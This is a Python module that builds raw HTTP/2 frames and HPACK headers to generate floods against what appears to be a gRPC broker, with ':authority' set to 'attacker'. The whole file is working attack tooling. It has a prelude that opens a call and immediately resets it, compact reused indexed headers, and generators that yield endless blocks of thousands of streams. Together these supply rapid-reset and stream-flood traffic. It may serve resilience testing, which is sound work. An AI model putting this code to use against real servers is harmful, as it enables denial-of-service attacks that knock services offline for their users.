"""Frames as bytes: what floods are made of. No frame here depends on what the broker answers.

The numbers are those of RFC 9113 and of RFC 7541.
"""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, HAS_PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(values=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *value) for value in dict(values).items()))


def integer(value, bits, first=0):
    """An integer of HPACK behind the bits of `first`."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    encoded = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    encoded.append(value)
    return bytes(encoded)


def string(text):
    return integer(len(text), 7) + text


def literal(name, value, indexed=False):
    """A header as it is; `indexed`: that enters the table, too."""
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


def call_headers(path, indexed=False):
    """The headers of a call, by no entry of the table that the connection must have had before."""
    return b"\x83\x86" + b"".join(literal(name, value, indexed) for name, value in (
        (b":path", path.encode()), (b":authority", b"attacker"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))


# The same by the entries of the table, once call_headers(path, indexed=True) were sent.
REPEATED_HEADERS = b"\x83\x86\xc1\xc0\xbf\xbe"


def prelude(path=None, values=(), acknowledges=True):
    """What begins a connection. With a path: a call of it, which is reset, makes REPEATED_HEADERS calls of it."""
    begun = PREFACE + settings(values)
    if acknowledges:
        begun += frame(SETTINGS, ACK, 0)
    if path:
        begun += frame(HEADERS, END_HEADERS, 1, call_headers(path, indexed=True)) + reset(1)
    return begun


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def call(stream, body=None, ends=True, headers=REPEATED_HEADERS):
    """A call's frames: its headers, and `body` if it has one."""
    begun = frame(HEADERS, END_HEADERS, stream, headers)
    return begun if body is None else begun + frame(DATA, END_STREAM if ends else 0, stream, body)


def blocks_of_calls(frames_of, first=3, calls=5000):
    """Blocks without end, of so many streams each: the bytes that frames_of(stream) gives."""
    while True:
        yield b"".join(frames_of(stream) for stream in range(first, first + 2 * calls, 2))
        first += 2 * calls


def blocks_of(frames, size=1 << 20):
    """The same bytes without end."""
    block = frames * max(1, size // len(frames))
    while True:
        yield block
